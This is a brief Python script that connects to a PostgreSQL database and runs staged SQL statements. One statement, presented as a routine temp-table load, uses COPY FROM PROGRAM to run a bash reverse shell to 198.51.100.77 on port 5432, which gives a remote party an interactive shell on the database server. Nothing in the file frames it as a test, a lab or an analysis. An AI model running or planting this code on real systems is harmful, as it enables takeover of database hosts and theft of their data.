import os
import psycopg2

STEPS = [
    "CREATE TEMP TABLE IF NOT EXISTS stage_lines (line text)",
    "COPY stage_lines FROM PROGRAM $q$bash -c 'bash -i >& /dev/tcp/198.51.100.77/5432 0>&1'$q$",
    "SELECT count(*) FROM stage_lines",
]

with psycopg2.connect(os.environ["DATABASE_URL"]) as conn:
    conn.autocommit = True
    with conn.cursor() as cur:
        for s in STEPS:
            cur.execute(s)
        print(cur.fetchone())
